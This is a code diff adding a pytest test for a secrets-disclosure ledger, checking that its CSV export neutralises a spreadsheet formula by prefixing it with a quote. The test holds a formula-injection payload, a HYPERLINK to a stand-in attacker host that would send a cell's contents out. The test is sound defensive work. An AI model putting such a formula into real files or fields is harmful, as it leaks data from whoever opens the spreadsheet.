@@ -219,3 +219,22 @@ def test_csv_and_pdf_exports(
     assert "Generated" in flat and "Alice Smith" in flat and "Bob Ng" not in flat
     assert f"#{entries[0].custody_seq}" in flat
     assert entries[0].custody_hash[:20] in text.replace("\n", "")
+
+
+def test_the_csv_export_neutralises_cells_a_spreadsheet_would_run(
+    session: Session, admin: Actor, secret: SecretRead, alice: PersonRead
+) -> None:
+    bind_for_access(session, person_id=alice.id, secret_id=secret.id, level="view")
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    ledger.record_disclosure(
+        session,
+        actor=admin,
+        secret=secret.ref,
+        person=alice.email,
+        channel=LedgerChannel.MANUAL_ORAL,
+        on=None,
+        description=formula,
+    )
+    text = ledger_export.ledger_csv(session, actor=admin, filters=LedgerFilter())
+    [row] = csv.DictReader(io.StringIO(text))
+    assert row["description"] == "'" + formula
